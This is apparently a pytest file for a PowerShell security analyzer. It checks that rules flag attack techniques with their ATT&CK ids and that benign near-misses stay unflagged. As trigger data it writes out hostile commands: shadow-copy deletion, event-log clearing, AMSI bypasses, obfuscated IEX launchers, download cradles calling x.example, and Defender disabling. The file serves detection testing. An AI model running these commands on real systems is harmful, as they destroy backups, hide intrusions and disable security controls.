"""Attack techniques, each in several spellings with near misses, and the ATT&CK id on each finding."""

from __future__ import annotations

import pytest

from psscript_graphql.analyzer.attack_techniques import RULE_TECHNIQUES, TECHNIQUE_NAMES, technique_url
from psscript_graphql.analyzer.findings import Severity
from tests.unit.analyzer.corpus_cases import analyze, hits

# (rule, technique, line expected, script)
TRIGGERS = [
    # Inhibit system recovery — T1490
    ("PSInhibitSystemRecovery", "T1490", 1, "vssadmin.exe Delete Shadows /All /Quiet"),
    ("PSInhibitSystemRecovery", "T1490", 2, "$ErrorActionPreference = 'Stop'\ncmd.exe /c \"vssadmin delete shadows /all /quiet\""),
    ("PSInhibitSystemRecovery", "T1490", 1, "Start-Process -FilePath vssadmin.exe -ArgumentList 'delete','shadows','/all'"),
    ("PSInhibitSystemRecovery", "T1490", 1, "wmic shadowcopy delete /nointeractive"),
    ("PSInhibitSystemRecovery", "T1490", 1, "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }"),
    ("PSInhibitSystemRecovery", "T1490", 1, "Get-CimInstance -ClassName Win32_ShadowCopy |\n    Remove-CimInstance"),
    ("PSInhibitSystemRecovery", "T1490", 1, "bcdedit /set {default} recoveryenabled No"),
    ("PSInhibitSystemRecovery", "T1490", 1, "& bcdedit.exe /set '{default}' bootstatuspolicy ignoreallfailures"),
    ("PSInhibitSystemRecovery", "T1490", 1, "wbadmin delete catalog -quiet"),
    ("PSInhibitSystemRecovery", "T1490", 1, "wbadmin.exe DELETE SYSTEMSTATEBACKUP -keepVersions:0"),
    ("PSInhibitSystemRecovery", "T1490", 1, "Disable-ComputerRestore -Drive 'C:\\'"),
    ("PSInhibitSystemRecovery", "T1490", 1, "& ('vss' + 'admin') delete shadows /all /quiet"),
    ("PSInhibitSystemRecovery", "T1490", 1, "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB"),
    ("PSInhibitSystemRecovery", "T1490", 1, "Stop-Service -Name VSS -Force"),
    ("PSInhibitSystemRecovery", "T1490", 1, "sc.exe config vss start= disabled"),
    ("PSInhibitSystemRecovery", "T1490", 1, "Set-Service -Name wbengine -StartupType Disabled"),
    ("PSInhibitSystemRecovery", "T1490", 1,
     "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore\" /v DisableSR /t REG_DWORD /d 1 /f"),
    # Clearing event logs — T1070.001
    ("PSClearEventLog", "T1070.001", 1, "wevtutil cl Security"),
    ("PSClearEventLog", "T1070.001", 1, "wevtutil.exe clear-log \"Windows PowerShell\""),
    ("PSClearEventLog", "T1070.001", 1, "Get-WinEvent -ListLog * | ForEach-Object { wevtutil cl $_.LogName }"),
    ("PSClearEventLog", "T1070.001", 1, "Clear-EventLog -LogName Security, System"),
    ("PSClearEventLog", "T1070.001", 1, "Clear-EventLog Application"),
    ("PSClearEventLog", "T1070.001", 1, "Remove-EventLog -LogName 'MyAppLog'"),
    ("PSClearEventLog", "T1070.001", 1, "Limit-EventLog -LogName Security -MaximumSize 64KB -OverflowAction OverwriteAsNeeded"),
    ("PSClearEventLog", "T1070.001", 1,
     "[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')"),
    ("PSClearEventLog", "T1070.001", 1, "Get-EventLog -List | ForEach-Object { $_.Clear() }"),
    ("PSClearEventLog", "T1070.001", 1, "wmic nteventlog where \"filename='security'\" call cleareventlog"),
    ("PSClearEventLog", "T1070.001", 1, "& ('Clear-' + 'EventLog') -LogName Security"),
    ("PSClearEventLog", "T1070.001", 1, "[System.Diagnostics.EventLog]::Delete('Application')"),
    ("PSClearEventLog", "T1070.001", 1, "Remove-Item -Path C:\\Windows\\System32\\winevt\\Logs\\*.evtx -Force"),
    ("PSClearEventLog", "T1070.001", 1, "Get-ChildItem C:\\Windows\\System32\\winevt\\Logs | Remove-Item -Force"),
    # Reflective assembly loading — T1620
    ("PSReflectiveAssemblyLoad", "T1620", 1, "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b64))"),
    ("PSReflectiveAssemblyLoad", "T1620", 2,
     "$bytes = (New-Object Net.WebClient).DownloadData('http://x.example/a.dll')\n[Reflection.Assembly]::Load($bytes)"),
    ("PSReflectiveAssemblyLoad", "T1620", 1, "$asm = [AppDomain]::CurrentDomain.Load((Invoke-WebRequest $u).Content)"),
    ("PSReflectiveAssemblyLoad", "T1620", 1, "[Reflection.Assembly]::Load($payloadBytes).EntryPoint.Invoke($null, $null)"),
    # Hidden command names — T1027.010
    ("PSObfuscatedCommandName", "T1027.010", 1, "& ('New-'+'Object') Net.WebClient"),
    ("PSObfuscatedCommandName", "T1027.010", 1, ". (\"{1}{0}\" -f 'x','ie') $payload"),
    ("PSObfuscatedCommandName", "T1027.010", 1, "& ([char]105 + [char]101 + [char]120) $payload"),
    ("PSObfuscatedCommandName", "T1027.010", 1, "& (-join 'xei'[-1..-3]) $payload"),
    ("PSObfuscatedCommandName", "T1027.010", 1, "& (('I','E','X') -join '') $payload"),
    ("PSObfuscatedCommandName", "T1027.010", 2, "$c = [char]73 + [char]69 + [char]88\n& $c $payload"),
    ("PSObfuscatedCommandName", "T1027.010", 1, "$wc.('Down' + 'loadString')('http://x.example/a.ps1')"),
    ("PSObfuscatedCommandName", "T1027.010", 2, "$a = 'New-'; $b = 'Object'\n& \"$a$b\" Net.WebClient"),
    # Invoke-Obfuscation's launchers: letters taken from automatic values that never change.
    ("PSObfuscatedCommandName", "T1027.010", 1, "&($ShellId[1]+$ShellId[13]+'x') $payload"),
    ("PSObfuscatedCommandName", "T1027.010", 1, ".($env:ComSpec[4,15,25]-Join'') $payload"),
    ("PSObfuscatedCommandName", "T1027.010", 1, "&( $VerbosePreference.ToString()[1,3]+'x'-Join'') $payload"),
    ("PSObfuscatedCommandName", "T1027.010", 1, "& ($PSHome[4]+$PSHome[30]+'x') $payload"),
    ("PSAvoidUsingInvokeExpression", "", 1, "&($ShellId[1]+$ShellId[13]+'x') $payload"),
    # An alias the script defines hides the command it stands for.
    ("PSObfuscatedCommandName", "T1027.010", 2, "Set-Alias -Name run -Value Invoke-Expression\nrun $payload"),
    ("PSObfuscatedCommandName", "T1027.010", 2, "New-Alias dl ('Invoke-'+'WebRequest')\ndl -Uri $u -OutFile x.exe"),
    ("PSAvoidUsingInvokeExpression", "", 2, "sal x iex\nx $payload"),
    # Split-string AMSI bypasses — T1562.001
    ("PSAmsiBypass", "T1562.001", 1,
     "[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('am'+'siInitFailed',"
     "'NonPublic,Static').SetValue($null,$true)"),
    ("PSAmsiBypass", "T1562.001", 3,
     "$a = 'System.Management.Automation.A'\n$b = 'ms'\n"
     "[Ref].Assembly.GetType(('{0}{1}iUtils' -f $a,$b)).GetField(('am{0}InitFailed' -f 'si'),'NonPublic,Static')"),
    ("PSAmsiBypass", "T1562.001", 2,
     "$n = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('QQBtAHMAaQBVAHQAaQBsAHMA'))\n"
     "[Ref].Assembly.GetType('System.Management.Automation.' + $n).GetField('amsiInitFailed','NonPublic,Static')"),
    ("PSCredentialDumping", "T1003", 1,
     "iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('aW52b2tlLW1pbWlrYXR6')))"),
    # -EncodedCommand inside an -ArgumentList — T1027.010
    ("PSEncodedCommand", "T1027.010", 1, "Start-Process powershell -ArgumentList '-NoP -NonI -enc SQBFAFgAIAAoAE4AZQB3AC0A'"),
    ("PSEncodedCommand", "T1027.010", 1,
     "Start-Process -FilePath 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' -ArgumentList "
     "'-EncodedCommand', $blob -WindowStyle Hidden"),
    ("PSEncodedCommand", "T1027.010", 1, "saps pwsh -Args '-e','SQBFAFgAIAAoAE4AZQB3AC0A'"),
    # Credential literals nested in constructors — T1552.001
    ("PSAvoidHardcodedCredential", "T1552.001", 1,
     "$c = New-Object System.Management.Automation.PSCredential('admin', (ConvertTo-SecureString 'P@ssw0rd!' "
     "-AsPlainText -Force))"),
    ("PSAvoidHardcodedCredential", "T1552.001", 1,
     "$c = [pscredential]::new('u', ('Secr3t!' | ConvertTo-SecureString -AsPlainText -Force))"),
    ("PSAvoidHardcodedCredential", "T1552.001", 1, "$n = New-Object System.Net.NetworkCredential('svc', 'Winter2024!')"),
    ("PSAvoidHardcodedCredential", "T1552.001", 1, "$n = [System.Net.NetworkCredential]::new(\"svc\", \"Winter2024!\")"),
    # Existing attack rules are tagged too.
    ("PSDownloadCradle", "T1105", 1, "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"),
    ("PSDownloadCradle", "T1105", 1, "IEX (& ('New-'+'Object') Net.WebClient).DownloadString('http://x.example/a.ps1')"),
    ("PSPersistenceRunKey", "T1547.001", 1,
     "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value 'c:\\x.exe'"),
    ("PSDefenderTampering", "T1562.001", 1, "Set-MpPreference -DisableRealtimeMonitoring $true"),
]

NEAR_MISSES = [
    ("PSInhibitSystemRecovery", "vssadmin list shadows"),
    ("PSInhibitSystemRecovery", "# vssadmin delete shadows /all is what ransomware runs"),
    ("PSInhibitSystemRecovery", "bcdedit /set {default} recoveryenabled Yes"),
    ("PSInhibitSystemRecovery", "bcdedit /enum"),
    ("PSInhibitSystemRecovery", "wbadmin get versions"),
    ("PSInhibitSystemRecovery", "wmic shadowcopy list brief"),
    ("PSInhibitSystemRecovery", "Get-CimInstance Win32_ShadowCopy | Select-Object ID, InstallDate"),
    ("PSInhibitSystemRecovery", "Enable-ComputerRestore -Drive 'C:\\'"),
    ("PSInhibitSystemRecovery", "vssadmin resize shadowstorage /for=c: /on=d: /maxsize=20GB"),
    ("PSInhibitSystemRecovery", "Get-Service -Name VSS"),
    ("PSInhibitSystemRecovery", "sc.exe query vss"),
    ("PSInhibitSystemRecovery", "Set-Service -Name VSS -StartupType Manual"),
    ("PSInhibitSystemRecovery", "Start-Service -Name wbengine"),
    ("PSClearEventLog", "wevtutil qe Security /c:5 /f:text"),
    ("PSClearEventLog", "wevtutil epl Security C:\\backup\\security.evtx"),
    ("PSClearEventLog", "Get-EventLog -LogName Security -Newest 10"),
    ("PSClearEventLog", "Remove-EventLog -Source 'MyApp'"),
    ("PSClearEventLog", "Limit-EventLog -LogName Application -MaximumSize 512MB"),
    ("PSClearEventLog", "Limit-EventLog -LogName Application -RetentionDays 30"),
    ("PSClearEventLog", "$list.Clear()"),
    ("PSClearEventLog", "Get-ChildItem C:\\Windows\\System32\\winevt\\Logs | Measure-Object -Property Length -Sum"),
    ("PSClearEventLog", "[System.Diagnostics.EventLog]::Exists('Application')"),
    ("PSReflectiveAssemblyLoad", "[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')"),
    ("PSReflectiveAssemblyLoad", "[Reflection.Assembly]::LoadFrom('C:\\lib\\Contoso.dll')"),
    ("PSReflectiveAssemblyLoad", "[System.Reflection.Assembly]::Load('System.Drawing, Version=4.0.0.0')"),
    ("PSReflectiveAssemblyLoad", "$name = 'System.Web'\n[Reflection.Assembly]::Load($name)"),
    ("PSReflectiveAssemblyLoad", "Add-Type -AssemblyName System.Web"),
    ("PSReflectiveAssemblyLoad", "$xml.Load('C:\\config.xml')"),
    ("PSObfuscatedCommandName", "& $exe -Silent"),
    ("PSObfuscatedCommandName", "$tool = 'C:\\tools\\x.exe'\n& $tool /quiet"),
    ("PSObfuscatedCommandName", "& (Join-Path $PSScriptRoot 'build.ps1')"),
    ("PSObfuscatedCommandName", "& ('Get-Date')"),
    ("PSObfuscatedCommandName", "& \"$PSScriptRoot\\setup.ps1\""),
    ("PSObfuscatedCommandName", "& \"$env:ComSpec\" /c dir"),
    ("PSObfuscatedCommandName", "$exe = 'C:\\tools\\x.exe'\n& \"$exe\" /quiet"),
    ("PSObfuscatedCommandName", "$dir = 'C:\\tools'\n& \"$dir\\setup.exe\" /quiet"),
    ("PSObfuscatedCommandName", "Set-Alias ll Get-ChildItem\nll C:\\temp"),
    ("PSObfuscatedCommandName", "Set-Alias run Invoke-Expression\nfunction run { 'mine' }\nrun"),
    ("PSObfuscatedCommandName", "$ShellId = Read-Host\n& ($ShellId[1] + 'x')"),  # the script sets it
    ("PSAmsiBypass", "$a = 'Sys' + 'tem.IO'\n[Ref].Assembly.GetType(\"$a.Path\")"),
    ("PSEncodedCommand", "Start-Process powershell -ArgumentList '-NoProfile -File C:\\scripts\\job.ps1'"),
    ("PSEncodedCommand", "Start-Process notepad.exe -ArgumentList '-enc', 'x'"),
    ("PSEncodedCommand", "Start-Process powershell -ArgumentList '-ExecutionPolicy RemoteSigned -File x.ps1'"),
    ("PSAvoidHardcodedCredential", "$c = New-Object PSCredential('admin', (Read-Host -AsSecureString))"),
    ("PSAvoidHardcodedCredential", "$s = ConvertTo-SecureString $env:SVC_PASSWORD -AsPlainText -Force"),
    ("PSAvoidHardcodedCredential", "$s = ConvertTo-SecureString 'MjAxOQ==' -Key $key"),
    ("PSAvoidHardcodedCredential", "$n = New-Object System.Net.NetworkCredential('svc', $password)"),
]


@pytest.mark.parametrize(("rule", "technique", "line", "script"), TRIGGERS,
                         ids=[f"{rule}-{i}" for i, (rule, *_rest) in enumerate(TRIGGERS)])
def test_each_technique_is_found_with_its_attack_id(rule: str, technique: str, line: int, script: str) -> None:
    found = hits(analyze(script), rule)
    assert found, f"{rule} missed"
    assert {(f.line, f.technique) for f in found} >= {(line, technique)}


@pytest.mark.parametrize(("rule", "script"), NEAR_MISSES, ids=[f"{rule}-{i}" for i, (rule, _) in enumerate(NEAR_MISSES)])
def test_near_misses_do_not_fire(rule: str, script: str) -> None:
    assert hits(analyze(script), rule) == []


def test_every_technique_of_the_new_rules_is_at_least_two_spellings() -> None:
    for rule in ("PSInhibitSystemRecovery", "PSClearEventLog", "PSReflectiveAssemblyLoad", "PSObfuscatedCommandName",
                 "PSAmsiBypass", "PSEncodedCommand", "PSAvoidHardcodedCredential"):
        assert sum(1 for case in TRIGGERS if case[0] == rule) >= 2


def test_findings_on_folded_text_show_the_resolved_text_on_the_original_line() -> None:
    result = analyze("""
        $n = 1
        [Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static')
    """)
    amsi = hits(result, "PSAmsiBypass")
    assert len(amsi) == 1
    assert amsi[0].line == 2 and "resolved:" in amsi[0].message and "AmsiUtils" in amsi[0].message
    assert amsi[0].extract.startswith("[Ref].Assembly.GetType('System.Management.Automation.'+'Am'")


def test_a_hidden_command_name_message_names_what_it_resolves_to() -> None:
    finding = hits(analyze("& ('Invoke-'+'Expression') $code"), "PSObfuscatedCommandName")[0]
    assert finding.severity is Severity.ERROR and finding.column == 3
    assert "resolves to Invoke-Expression" in finding.message


def test_findings_on_written_text_are_not_duplicated_by_the_folded_run() -> None:
    result = analyze("vssadmin delete shadows /all /quiet\n$x = 'a' + 'b'\n")
    assert len(hits(result, "PSInhibitSystemRecovery")) == 1
    assert "resolved" not in hits(result, "PSInhibitSystemRecovery")[0].message


def test_a_computer_name_built_from_a_variable_stays_unflagged_after_folding() -> None:
    result = analyze("$server = 'srv01'\nInvoke-Command -ComputerName \"$server.contoso.com\" -ScriptBlock { 1 }")
    assert hits(result, "PSAvoidUsingComputerNameHardcoded") == []


def test_removing_a_windows_log_is_critical_and_an_own_custom_log_a_warning() -> None:
    result = analyze("Remove-EventLog -LogName Security\nRemove-EventLog -LogName 'ContosoApp'\nRemove-EventLog $name")
    assert [(f.line, f.severity) for f in hits(result, "PSClearEventLog")] == [
        (1, Severity.CRITICAL), (2, Severity.WARNING), (3, Severity.CRITICAL)]


def test_rules_with_a_technique_name_it_and_the_url_is_the_attack_page() -> None:
    assert set(RULE_TECHNIQUES.values()) <= set(TECHNIQUE_NAMES)
    assert technique_url("T1070.001") == "https://attack.mitre.org/techniques/T1070/001/"
    assert hits(analyze("Write-Host 'hi'"), "PSAvoidUsingWriteHost")[0].technique == ""
